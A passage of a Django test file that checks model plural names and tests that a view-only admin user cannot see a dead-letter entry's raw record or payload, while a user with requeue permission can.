        if model._meta.app_label not in {"leads", "dlq", "whatsapp"}:
            continue
        singular, plural = str(model._meta.verbose_name), str(model._meta.verbose_name_plural)
        if re.search(r"[^aeiou]y$", singular):
            assert plural == singular[:-1] + "ies", model._meta.label
        elif re.search(r"(s|x|ch|sh)$", singular):
            assert plural == singular + "es", model._meta.label
        else:
            assert plural == singular + "s", model._meta.label


def test_a_view_only_user_sees_no_raw_record_or_payload_on_the_entrys_page(client, agent, root, exportable):
    """The page gives what the export gives: the record only with the requeue permission."""
    saga_entry, _, leaky = exportable
    viewer = agent
    viewer.user_permissions.set(Permission.objects.filter(content_type__app_label="dlq", codename="view_deadletter"))
    client.force_login(viewer)
    page = client.get(f"/admin/dlq/deadletter/{leaky.pk}/change/").content.decode()
    assert "Withheld: the payload, the raw record" in page and "dlq.requeue_deadletter" in page
    assert "crm.example.com" not in page and "lead-1" not in page, "neither the record nor its key"
    saga_page = client.get(f"/admin/dlq/deadletter/{saga_entry.pk}/change/").content.decode()
    assert "complaint-9" in saga_page, "the ids stay"
    assert '"intent": "COMPLAINT"' not in saga_page and "intent&quot;: &quot;COMPLAINT" not in saga_page

    client.force_login(root)
    page = client.get(f"/admin/dlq/deadletter/{leaky.pk}/change/").content.decode()
    assert "Withheld: the payload" not in page
    assert "crm.example.com" in page, "shown to who may requeue"
